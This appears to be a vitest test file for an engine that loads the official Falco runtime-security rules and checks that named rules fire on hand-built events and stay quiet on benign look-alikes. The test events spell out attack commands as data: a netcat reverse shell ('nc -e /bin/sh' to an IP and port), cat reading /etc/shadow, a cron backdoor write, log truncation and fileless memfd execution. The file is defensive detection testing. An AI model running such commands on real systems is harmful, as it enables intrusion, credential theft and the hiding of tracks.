/**
 * The official Falco rules (third-party test data, see
 * testdata/upstream/README.md) load without errors; what cannot run is listed
 * with the exact field and compared with a reviewed golden file; named rules
 * fire on hand-built events and stay quiet on benign look-alikes.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import type { RuntimeEvent } from '../events.js';
import { defaultRuleFile, generateEvents, loadRules, type RuleSet } from './index.js';
import { audit, connect, event, exec, open, O_APPEND, O_CREAT, O_RDONLY, O_TRUNC, O_WRONLY } from './testdata/events.js';

const dir = path.join(path.dirname(fileURLToPath(import.meta.url)), 'testdata/upstream');
const FILES = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml', 'k8s_audit_rules.yaml'];
const read = (f: string) => ({ path: f, text: readFileSync(path.join(dir, f), 'utf8') });

let rs: RuleSet;
beforeAll(() => {
  rs = loadRules(FILES.map(read));
});

const fired = (e: RuntimeEvent) => rs.evaluate(e).map((a) => a.rule);

describe('official Falco rules', () => {
  it('load without errors, each file alone and all together', () => {
    for (const f of FILES) expect(() => loadRules([read(f)])).not.toThrow();
    expect(rs.rules.length).toBeGreaterThan(90);
    expect(rs.notes.map((n) => n.message)).toEqual(expect.arrayContaining([expect.stringContaining('required_plugin_versions ignored')]));
  });

  it('list exactly the reviewed set of rules that cannot run, with the field at fault', () => {
    const actual = JSON.stringify(rs.disabled, null, 2) + '\n';
    const golden = path.join(dir, 'disabled.golden.json');
    if (process.env.UPDATE_GOLDEN === '1') writeFileSync(golden, actual);
    expect(actual).toBe(readFileSync(golden, 'utf8'));
    for (const d of rs.disabled) expect(d.field ?? d.reason).toBeTruthy();
    // Every rule is either loaded or disabled: nothing is dropped silently.
    const names = new Set([...rs.rules.map((r) => r.name), ...rs.disabled.map((d) => d.rule)]);
    const defined = new Set(FILES.flatMap((f) => [...read(f).text.matchAll(/^- rule:\s+(.+)$/gm)].map((m) => m[1]!.trim())));
    expect([...defined].filter((n) => !names.has(n))).toEqual([]);
  });

  it('raise the same alerts with and without the name and path indexes', () => {
    const edge = (name: string, cond: string) => `- rule: ${name}\n  desc: d\n  condition: ${cond}\n  output: o\n  priority: INFO\n`;
    const extra = {
      path: 'edge.yaml',
      text: [
        edge('Prefix without slash', 'evt.type = open and fd.name startswith /etc'),
        edge('File in root', 'evt.type = open and fd.directory = /'),
        edge('Dir in', 'evt.type = open and fd.directory in (/etc, /usr/bin)'),
        edge('Pmatch', 'evt.type = open and fd.name pmatch (/etc, /usr/lib)'),
        edge('Or of paths', 'evt.type = open and (fd.name = /etc/hosts or fd.name startswith /app/ or proc.name = sh)'),
        edge('Named', 'evt.type in (open, execve) and proc.name in (python3, sh)'),
      ].join(''),
    };
    const plain = loadRules([...FILES.map(read), defaultRuleFile(), extra], { indexes: false });
    const indexed = loadRules([...FILES.map(read), defaultRuleFile(), extra]);
    const events: RuntimeEvent[] = [
      ...generateEvents(4000, 3),
      open('/etcetera/x', O_WRONLY | O_CREAT, { proc: { name: 'python3' } }),
      open('/etc', O_RDONLY),
      open('/init', O_WRONLY | O_CREAT, { proc: { name: 'sh' } }),
      open('relative/path', O_RDONLY),
      event('open', { fd: { typechar: 'f' } }),
      exec('/bin/sh', [], { proc: { name: '' } }),
    ];
    let alerts = 0;
    for (const e of events) {
      const a = indexed.evaluate(e).map((x) => x.rule);
      expect(a).toEqual(plain.evaluate(e).map((x) => x.rule));
      alerts += a.length;
    }
    expect(alerts).toBeGreaterThan(50);
  });

  it('index rules by event type', () => {
    const idx = rs.index();
    expect(idx.byType.execve).toContain('Terminal shell in container');
    expect(idx.byType.open).toContain('Read sensitive file untrusted');
    expect(idx.byType.open).not.toContain('Terminal shell in container');
    expect(idx.k8s_audit).toContain('Create Privileged Pod');
  });
});

describe('named official rules on hand-built events', () => {
  const runcChild = { ancestors: ['runc:[1:CHILD]', 'runc'], ancestorExes: ['/usr/bin/runc', '/usr/bin/runc'] };

  it('Terminal shell in container: a shell with a terminal entered through runc', () => {
    expect(fired(exec('/bin/bash', [], { proc: { ...runcChild, tty: 34816 } }))).toContain('Terminal shell in container');
    expect(fired(exec('/bin/bash', [], { proc: { ...runcChild, tty: 0 } }))).not.toContain('Terminal shell in container');
    expect(fired(exec('/bin/bash', [], { container: null, proc: { ...runcChild, tty: 34816 } }))).not.toContain('Terminal shell in container');
    expect(fired(exec('/usr/bin/bashful', [], { proc: { ...runcChild, tty: 34816 } }))).not.toContain('Terminal shell in container');
  });

  it('Read sensitive file untrusted: cat reading /etc/shadow, not /etc/passwd, not passwd itself', () => {
    expect(fired(open('/etc/shadow', O_RDONLY, { proc: { name: 'cat', exe: '/bin/cat' } }))).toContain('Read sensitive file untrusted');
    expect(fired(open('/etc/passwd', O_RDONLY, { proc: { name: 'cat', exe: '/bin/cat' } }))).not.toContain('Read sensitive file untrusted');
    expect(fired(open('/etc/shadow', O_RDONLY, { proc: { name: 'passwd', exe: '/usr/bin/passwd' } }))).not.toContain('Read sensitive file untrusted');
    expect(fired(open('/etc/shadow', O_RDONLY, { res: -13, proc: { name: 'cat' } }))).not.toContain('Read sensitive file untrusted');
  });

  it('Write below etc: a script writing a new file in /etc, not dpkg, not a read', () => {
    expect(fired(open('/etc/cron.d/backdoor', O_WRONLY | O_CREAT, { proc: { name: 'python3', exe: '/usr/bin/python3' } }))).toContain('Write below etc');
    expect(fired(open('/etc/cron.d/backdoor', O_WRONLY | O_CREAT, { proc: { name: 'dpkg', exe: '/usr/bin/dpkg' } }))).not.toContain('Write below etc');
    expect(fired(open('/etc/hosts', O_RDONLY, { proc: { name: 'python3' } }))).not.toContain('Write below etc');
    expect(fired(open('/etcetera/x', O_WRONLY | O_CREAT, { proc: { name: 'python3' } }))).not.toContain('Write below etc');
  });

  it('Drop and execute new binary in container, Fileless execution via memfd_create', () => {
    expect(fired(exec('/tmp/x', [], { proc: { exeUpperLayer: true } }))).toContain('Drop and execute new binary in container');
    expect(fired(exec('/usr/bin/x', [], { proc: { exeUpperLayer: false } }))).not.toContain('Drop and execute new binary in container');
    expect(fired(exec('/memfd:payload (deleted)'))).toContain('Fileless execution via memfd_create');
    expect(fired(exec('/usr/bin/memfd_payload'))).not.toContain('Fileless execution via memfd_create');
  });

  it('PTRACE attached to process, Clear Log Activities, Netcat Remote Code Execution in Container', () => {
    expect(fired(event('ptrace', { proc: { name: 'injector' }, args: { request: 16, pid: 1 } }))).toContain('PTRACE attached to process');
    expect(fired(event('ptrace', { proc: { name: 'injector' }, args: { request: 2, pid: 1 } }))).not.toContain('PTRACE attached to process');
    expect(fired(open('/var/log/auth.log', O_WRONLY | O_TRUNC, { proc: { name: 'sh' } }))).toContain('Clear Log Activities');
    expect(fired(open('/var/log/auth.log', O_WRONLY | O_APPEND, { proc: { name: 'rsyslogd' } }))).not.toContain('Clear Log Activities');
    expect(fired(exec('/bin/nc', ['-e', '/bin/sh', '10.0.0.1', '4444']))).toContain('Netcat Remote Code Execution in Container');
    expect(fired(exec('/bin/nc', ['-z', 'db', '5432']))).not.toContain('Netcat Remote Code Execution in Container');
  });

  it('Launch Package Management Process in Container (incubating), Disallowed SSH Connection Non Standard Port', () => {
    expect(fired(exec('/usr/bin/apt-get', ['install', '-y', 'nmap'], { proc: { uid: 0 } }))).toContain('Launch Package Management Process in Container');
    expect(fired(exec('/usr/bin/apt-get', ['install'], { container: null, proc: { uid: 0 } }))).not.toContain('Launch Package Management Process in Container');
    expect(fired(connect('203.0.113.9', 443, { proc: { name: 'ssh', exe: '/usr/bin/ssh' } }))).toContain('Disallowed SSH Connection Non Standard Port');
    expect(fired(connect('10.1.2.3', 443, { proc: { name: 'ssh', exe: '/usr/bin/ssh' } }))).not.toContain('Disallowed SSH Connection Non Standard Port');
  });

  it('k8s audit: privileged pod, exec into a pod, binding to cluster-admin', () => {
    const pod = (privileged: boolean) =>
      audit({ objectRef: { resource: 'pods', namespace: 'default', name: 'p' }, requestObject: { spec: { containers: [{ name: 'c', image: 'nginx', securityContext: { privileged } }] } } });
    expect(fired(pod(true))).toContain('Create Privileged Pod');
    expect(fired(pod(false))).not.toContain('Create Privileged Pod');
    const ex = audit({ stage: 'ResponseStarted', verb: 'create', requestURI: '/api/v1/namespaces/default/pods/p/exec?command=sh', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'default', name: 'p' } });
    expect(fired(ex)).toContain('Attach/Exec Pod');
    expect(rs.evaluate(ex).find((a) => a.rule === 'Attach/Exec Pod')?.output).toContain('command=sh');
    const bind = (role: string) => audit({ objectRef: { resource: 'clusterrolebindings', name: 'b' }, requestObject: { roleRef: { name: role }, subjects: [{ name: 'mallory' }] } });
    expect(fired(bind('cluster-admin'))).toContain('Attach to cluster-admin Role');
    expect(fired(bind('view'))).not.toContain('Attach to cluster-admin Role');
  });

  it('formats official outputs with the event values', () => {
    const [a] = rs.evaluate(open('/etc/shadow', O_RDONLY, { proc: { name: 'cat', exe: '/bin/cat', args: ['/etc/shadow'] } })).filter((x) => x.rule === 'Read sensitive file untrusted');
    expect(a).toMatchObject({ priority: 'Warning', source: 'syscall', tags: expect.arrayContaining(['T1555']), container: { id: '3f4e5d6c7b8a', image: 'registry.example/shop/api:2.4.1' } });
    expect(a!.output).toContain('file=/etc/shadow');
    expect(a!.output).toContain('command=cat /etc/shadow');
    expect(a!.output).toContain('container_id=3f4e5d6c7b8a');
    expect(a!.outputFields['fd.name']).toBe('/etc/shadow');
    expect(a!.outputFields['proc.aname[2]']).toBe('containerd-shim');
    expect(a!.outputFields['evt.arg.flags']).toBe('O_RDONLY');
  });
});
